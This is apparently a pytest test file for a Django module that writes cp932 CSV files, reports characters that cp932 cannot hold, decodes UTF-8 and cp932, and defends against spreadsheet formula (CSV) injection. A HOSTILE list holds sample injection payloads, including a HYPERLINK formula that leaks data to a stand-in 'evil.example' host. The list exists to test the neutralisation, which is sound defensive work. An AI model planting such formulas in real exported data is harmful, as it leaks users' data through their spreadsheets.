"""core.csvio: cp932 CSV writing that reports every character it cannot hold, and reading cp932 or UTF-8
(with or without BOM), CRLF or LF."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.utils import translation

from core.csvio import (
    UTF8_BOM,
    Cp932CsvWriter,
    CsvFileError,
    decode_csv,
    fits_cp932,
    neutralise_formula,
    read_csv,
    restore_formula,
    written_form,
)


@pytest.mark.parametrize("char", ["①", "㈱", "髙", "～", "ｶ", "ﾀ", "ﾅ", "ﾞ", "∥", "－", "―", "￥"])
def test_characters_cp932_holds_exactly(char):
    # then: IBM/NEC extensions (髙 U+9AD9, ① and ㈱), the full-width tilde and half-width kana read back alike
    assert fits_cp932(char)
    assert char.encode("cp932").decode("cp932") == char


@pytest.mark.parametrize(
    ("char", "written_as"),
    [
        ("〜", "～"),  # WAVE DASH U+301C: Python encodes it as 0x8160, which reads back as U+FF5E
        ("−", "－"),  # MINUS SIGN U+2212
        ("‖", "∥"),
        ("¢", "￠"),
        ("¥", "?"),  # YEN SIGN U+00A5 (the full-width ￥ U+FFE5 is in cp932)
        ("🍣", "?"),
        ("—", "?"),  # EM DASH U+2014
        ("😀", "?"),
    ],
)
def test_characters_cp932_cannot_hold_are_written_as_their_twin_or_a_question_mark(char, written_as):
    assert not fits_cp932(char)
    assert written_form(f"a{char}b") == f"a{written_as}b"


@pytest.fixture(autouse=True)
def english():
    """The messages are asserted in their English source text (staff read them in Japanese)."""
    with translation.override("en"):
        yield


def test_the_writer_reports_line_column_character_and_code_point_for_each_character_it_replaces():
    # given
    writer = Cp932CsvWriter(["ID", "名前"])

    # when
    writer.writerow([1, "①㈱髙～ｶﾀｶﾅ"], where="ID 1")
    found = writer.writerow([2, "朝ヨガ〜夜ヨガ🍣"], where="ID 2")
    data = writer.getvalue()

    # then: nothing is dropped; each replacement is reported
    assert data == "ID,名前\r\n1,①㈱髙～ｶﾀｶﾅ\r\n2,朝ヨガ～夜ヨガ?\r\n".encode("cp932")
    assert [(p.line, p.column, p.char, p.codepoint, p.written_as) for p in writer.problems] == [
        (3, "名前", "〜", "U+301C", "～"),
        (3, "名前", "🍣", "U+1F363", "?"),
    ]
    assert found == writer.problems
    assert "Line 3 (ID 2), 名前" in writer.problems[0].message
    assert "U+301C" in writer.problems[0].message
    assert "U+FF5E" in writer.problems[0].message
    assert "U+1F363" in writer.problems[1].message


def test_the_writer_quotes_cells_with_commas_quotes_and_line_breaks_and_ends_lines_with_crlf():
    writer = Cp932CsvWriter(["a", "b"])
    writer.writerow(["1,2", 'say "hi"\nbye'])
    assert writer.getvalue() == b'a,b\r\n"1,2","say ""hi""\nbye"\r\n'


@pytest.mark.parametrize(
    ("data", "encoding"),
    [
        ("名前,ｶﾅ\r\n①,髙\r\n".encode("cp932"), "cp932"),
        ("名前,ｶﾅ\r\n①,髙\r\n".encode(), "utf-8"),
        (UTF8_BOM + "名前,ｶﾅ\n①,髙\n".encode(), "utf-8-sig"),
        ("名前,ｶﾅ\n①,髙\n".encode(), "utf-8"),
    ],
)
def test_decoding_accepts_cp932_and_utf8_with_or_without_bom_crlf_or_lf(data, encoding):
    # when
    decoded = decode_csv(data)
    header, rows = read_csv(decoded.text)

    # then
    assert decoded.encoding == encoding
    assert header == ["名前", "ｶﾅ"]
    assert [(row.line, row.cells) for row in rows] == [(2, ["①", "髙"])]


def test_reading_gives_the_line_each_row_starts_on_even_with_line_breaks_inside_cells():
    _header, rows = read_csv('a,b\n1,"two\nlines"\n\n3,4\n')
    assert [(row.line, row.cells, row.is_blank) for row in rows] == [
        (2, ["1", "two\nlines"], False),
        (4, [], True),
        (5, ["3", "4"], False),
    ]


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "The file is empty."),
        (UTF8_BOM + b"\r\n", "The file is empty."),
        (b"PK\x03\x04\x14\x00\x06\x00", "Excel (.xlsx) or ZIP file"),
        (b"ID,name\x00\x01", "binary data"),
        (UTF8_BOM + b"ID,\xff\xfe", "starts as UTF-8"),
        (b"ID,\x81\x20", "neither Shift_JIS (cp932) nor UTF-8"),
    ],
)
def test_a_file_that_is_not_a_readable_csv_is_refused_with_a_reason(data, message):
    with pytest.raises(CsvFileError) as caught:
        decode_csv(data)
    assert message in str(caught.value)


def test_an_unterminated_quote_is_refused_with_its_line():
    _header, rows = read_csv('a,b\n1,2\n3,"four\n')
    with pytest.raises(CsvFileError) as caught:
        list(rows)
    assert "Line 3" in str(caught.value)


# --- spreadsheet formulas (OWASP CSV injection) ------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak","x")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",  # a name that genuinely starts with '=
    "''=twice",
    "'@",
]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://x","x")', '\'=HYPERLINK("http://x","x")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x", "''=x"),
        ("''=x", "'''=x"),
        ("'plain", "'plain"),  # a ' before anything else is left alone
        ("a=b", "a=b"),
        ("", ""),
        ("-3", "'-3"),  # text that looks like a number is still text (the column is not numeric)
    ],
)
def test_a_text_cell_that_a_spreadsheet_would_run_as_a_formula_gets_one_leading_quote(value, written):
    assert neutralise_formula(value) == written
    assert restore_formula(written) == value


@pytest.mark.parametrize("value", ["'plain", "'", "''", "'a=b", "it's", "'x-"])
def test_reading_leaves_a_quote_that_is_not_before_a_formula_alone(value):
    assert restore_formula(value) == value


def test_the_writer_neutralises_text_cells_and_leaves_numbers_and_numeric_columns_as_numbers():
    # given
    writer = Cp932CsvWriter(["ID", "名前", "ポイント", "メモ"], numeric=["ID", "ポイント"])

    # when
    writer.writerow([1, "=1+1", -300, Decimal("-1.5")])
    writer.writerow(["2", "-2+3", "-300", "-4"])
    writer.writerow(["=3", "@x", "-2+3", None])  # a numeric column holding text is still neutralised

    # then
    assert rows(writer.getvalue()) == [
        ["ID", "名前", "ポイント", "メモ"],
        ["1", "'=1+1", "-300", "-1.5"],
        ["2", "'-2+3", "-300", "'-4"],
        ["'=3", "'@x", "'-2+3", ""],
    ]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_hostile_cell_written_then_read_comes_back_unchanged(value):
    # given
    writer = Cp932CsvWriter(["名前", "ポイント"], numeric=["ポイント"])
    writer.writerow([value, -5])

    # when
    data = writer.getvalue()
    header, read = read_csv(decode_csv(data).text)

    # then: the file holds no cell a spreadsheet would run, and reading it gives the value back
    cells = rows(data)[1]
    assert cells[0].startswith("'")
    assert cells[1] == "-5"
    assert header == ["名前", "ポイント"]
    assert [row.cells for row in read] == [[value, "-5"]]


def test_reading_takes_exactly_one_quote_off_a_neutralised_cell():
    _header, read = read_csv("a,b,c\r\n'=1+1,''=2,'plain\r\n")
    assert [row.cells for row in read] == [["=1+1", "'=2", "'plain"]]


def rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("cp932"), newline="")))
